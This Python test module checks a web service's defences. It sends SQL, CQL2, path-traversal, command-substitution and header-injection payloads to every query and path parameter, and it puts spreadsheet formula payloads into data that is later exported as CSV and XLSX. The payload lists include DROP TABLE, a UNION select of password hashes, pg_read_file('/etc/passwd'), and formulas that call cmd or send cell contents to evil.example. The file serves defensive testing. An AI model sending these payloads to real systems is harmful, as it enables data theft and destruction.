"""Payloads in every parameter, CQL2 among them, and formulas in what becomes cells."""

from __future__ import annotations

import csv
import io
import time
from typing import Any
from uuid import uuid4

import openpyxl

from tests.api.test_feeds_incidents import incident
from tests.feeds import ago
from tests.torture.site import Site
from tests.torture.torture import Torture, row

SLEEP_S = 5
PAYLOADS = {
    "quote": "'",
    "quotes": "'\"`",
    "or": "' OR '1'='1",
    "comment": "x'--",
    "stacked": "x'; DROP TABLE incident;--",
    "union": "x' UNION SELECT username, password_hash FROM account--",
    "sleep": f"x'||pg_sleep({SLEEP_S})||'",
    "sleep bare": f"1;SELECT pg_sleep({SLEEP_S})",
    "dollar": "$$x$$",
    "backslash": "\\'; SELECT 1;--",
    "format": "%s%s%n%(x)s{0}{x.__class__}",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "path": "../../../../etc/passwd",
    "encoded path": "..%2f..%2fetc%2fpasswd",
    "null": "a\0b",
    "newline": "a\r\nX-Injected: 1",
    "long": "9" * 5_000,
    "nan": "NaN",
    "infinite": "1e999",
    "negative": "-1",
    "arabic digits": "٥٠٠١٠٣",
    "wide": "ｓｅｌｅｃｔ　１",
    "list": "[]",
    "empty": "",
    "command": "$(id);`id`|id",
    "ldap": "*)(uid=*",
    "bidi": "\u202e\u2066abc",
}
CQL = {
    "tautology": "1=1",
    "function": f"pg_sleep({SLEEP_S})=1",
    "function in property": f"facility_id = pg_sleep({SLEEP_S})",
    "cast": "facility_id::int = 1",
    "subquery": "facility_id = (SELECT username FROM account)",
    "stacked": "facility_id='x'; DROP TABLE facility",
    "unknown column": "password_hash = 'x'",
    "system column": "ctid = '(0,1)'",
    "quoted column": '"facility_id"" FROM account--" = \'x\'',
    "version": "version() = 'x'",
    "current setting": "current_setting('is_superuser') = 'on'",
    "file": "pg_read_file('/etc/passwd') = 'x'",
    "no end": "facility_id = 'x",
    "deep": "(" * 3_000 + "1=1" + ")" * 3_000,
    "many": " AND ".join(["facility_id='x'"] * 2_000),
    "like": "facility_id LIKE '" + "%_" * 500 + "'",
    "geometry": "S_INTERSECTS(geom, POLYGON((0 0, 1 1, 1e999 0, 0 0)))",
    "interval": "T_AFTER(changed_at, TIMESTAMP('x'))",
    "null": "facility_id = '\0'",
}
#: Functions and what names no published column: refused, never run.
MUST_REFUSE = {
    "function",
    "function in property",
    "cast",
    "subquery",
    "stacked",
    "unknown column",
} | {
    *("system column", "quoted column", "version", "current setting", "file", "no end"),
}


@row("injection", "injection: payloads in every parameter, CQL2 through its parser")
def injection(torture: Torture) -> None:
    """Parameters from the service's own description, query and path; refused, or an ordinary answer
    that took no longer and changed nothing."""
    site, figures = torture.site(), torture.figures
    tables = ("incident", "facility", "account", "outage", "status_log")
    before = [site.sql(f"SELECT count(*) FROM {table}") for table in tables]
    parameters = refused = answered = 0
    payloads = list(PAYLOADS.items())[:: 1 if torture.scale >= 1 else 5]
    limit_s = SLEEP_S * 0.8 + torture.factor()
    for path, operation in described(site):
        if "get" not in operation:
            continue
        for one in operation["get"].get("parameters", []):
            if one["in"] not in ("query", "path"):
                continue
            parameters += 1
            for name, payload in payloads:
                url, query = place(path, one, payload)
                began = time.monotonic()
                answer = site.ask(
                    "GET", url, "admin", params=query, headers={"Accept": "application/json"}, what=f"{one['name']} {name}"
                )  # fmt: skip
                took_s = time.monotonic() - began
                refused += answer.status_code >= 400
                answered += answer.is_success
                figures.check(took_s < limit_s, f"{took_s:.1f} s: {path} {one['name']} {name}")
                figures.check("x-injected" not in answer.headers, f"a header: {path} {name}")
                figures.check(answer.text.strip() != "49", f"a template ran: {path} {name}")
    cql = 0
    for collection in ("facilities", "incidents", "outages"):
        for name, payload in CQL.items():
            for language in ("cql2-text", "cql2-json"):
                began = time.monotonic()
                answer = site.ask(
                    "GET", f"/ogc/collections/{collection}/items", "planner",
                    params={"filter": payload, "filter-lang": language},
                    headers={"Accept": "application/json"}, what=f"CQL2 {name}",
                )  # fmt: skip
                took_s = time.monotonic() - began
                cql += 1
                figures.check(took_s < limit_s, f"{took_s:.1f} s: CQL2 {name}")
                if name in MUST_REFUSE:
                    figures.check(
                        400 <= answer.status_code < 500,
                        f"{answer.status_code}: CQL2 {name} {collection}",
                    )
    after = [site.sql(f"SELECT count(*) FROM {table}") for table in tables]
    figures.check(before == after, f"rows before {before}, after {after}")
    figures.own |= {"parameters": parameters, "payloads": len(payloads), "refused": refused}
    figures.own |= {"answered as usual": answered, "CQL2": cql}


def described(site: Site) -> list[tuple[str, dict[str, Any]]]:
    """Paths and operations of /openapi.json, without the stream, which has no end."""
    paths = site.ask("GET", "/openapi.json", "admin").json()["paths"]
    return [(path, one) for path, one in paths.items() if not path.endswith("/stream")]


def place(path: str, parameter: dict[str, Any], payload: str) -> tuple[str, dict[str, str]]:
    """The path with harmless values and the payload where the parameter stands."""
    from urllib.parse import quote

    harmless = {
        "plan": "special-equipment-2023", "adcode": "500103", "collection": "incidents",
        "format": "geojson", "collectionId": "incidents", "tileMatrixSetId": "WebMercatorQuad",
        "z": "5", "x": "25", "y": "13", "itemId": "1", "path": "x", "order_number": "CQ1",
        "incident_id": str(uuid4()), "attachment_id": str(uuid4()), "scenario_id": str(uuid4()),
    }  # fmt: skip
    query = {}
    if parameter["in"] == "path":
        harmless[parameter["name"]] = quote(payload, safe="") or "%20"
    else:
        query[parameter["name"]] = payload
    for name, value in harmless.items():
        path = path.replace("{" + name + "}", value).replace("{" + name + ":path}", value)
    return path, query


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    '=IMPORTXML("http://evil.example","//a")',
    '"=1+1',
    " =1+1",
    ";=1+1",
]
LEADS = ("=", "+", "-", "@", "\t", "\r")


@row(
    "formulas",
    "formula injection: = + - @ tab CR in text cells of CSV and XLSX; numbers stay numbers",
)
def formulas(torture: Torture) -> None:
    """Formulas in every text field of facilities, incidents and outages; every export opened again."""
    site, figures = torture.site(), torture.figures
    sent = 0
    for number, formula in enumerate(FORMULAS):
        body = incident(address=formula, description=formula, source=formula[:20])
        body["reporter"] = {"name": formula, "phone": "13800000000"}
        sent += site.ask("POST", "/v1/incidents", "commander", json=body).is_success
        said = {"outage_id": f"{formula[:40]}{number}", "revision": 1, "cause": formula}
        said |= {"load_shed_kw": 1, "customers_out": 1, "started_at": ago(minutes=5)}
        said |= {"facility_ids": [], "event": "=e"}
        shape = {"type": "Polygon", "coordinates": [[[106.5, 29.5], [106.6, 29.5], [106.6, 29.6], [106.5, 29.5]]]}  # fmt: skip
        answer = site.ask(
            "POST",
            "/v1/outages",
            "utility",
            json={"type": "Feature", "geometry": shape, "properties": said},
        )
        sent += answer.is_success
    sink = io.StringIO()
    table = csv.writer(sink)
    table.writerow(["facility_id", "name", "kind", "operator", "lon", "lat", "crs"])
    for number, formula in enumerate(FORMULAS):
        table.writerow([f"=F{number}", formula, "substation", formula, 106.55, 29.55, "WGS84"])
    answer = site.ask(
        "POST", "/v1/facilities/import?partial=true", "planner",
        files={"file": ("rows.csv", sink.getvalue().encode())},
    )  # fmt: skip
    sent += answer.json().get("accepted", 0) if answer.is_success else 0
    texts = numbers = 0
    for collection in ("facilities", "incidents", "outages", "situation", "districts"):
        for suffix in ("csv", "xlsx"):
            for query in ({}, {"lang": "zh"}, {"reporters": "true"}):
                answer = site.ask(
                    "GET", f"/v1/export/{collection}.{suffix}", "commander", params=query
                )
                if not answer.is_success:
                    figures.check(answer.status_code == 422, f"{answer.status_code}: {collection}")
                    continue
                found = _cells(answer.content, suffix)
                for text in found[0]:
                    texts += 1
                    figures.check(
                        not text.startswith(LEADS), f"{collection}.{suffix}: {text[:60]!r}"
                    )
                numbers += found[1]
                figures.check(found[2] == 0, f"{found[2]} formulas in {collection}.{suffix}")
    figures.check(numbers > 1_000, f"only {numbers} numbers")
    figures.own |= {"stored": sent, "text cells read back": f"{texts:,}", "numbers": f"{numbers:,}"}


def _cells(body: bytes, suffix: str) -> tuple[list[str], int, int]:
    """Text cells, the number of numbers, the number of formulas."""
    texts: list[str] = []
    numbers = formulas = 0
    if suffix == "csv":
        for line in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            for cell in line:
                try:
                    float(cell)
                    numbers += 1
                except ValueError:
                    texts.append(cell)
        return texts, numbers, 0
    book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if getattr(cell, "data_type", None) == "f":
                    formulas += 1
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    return texts, numbers, formulas
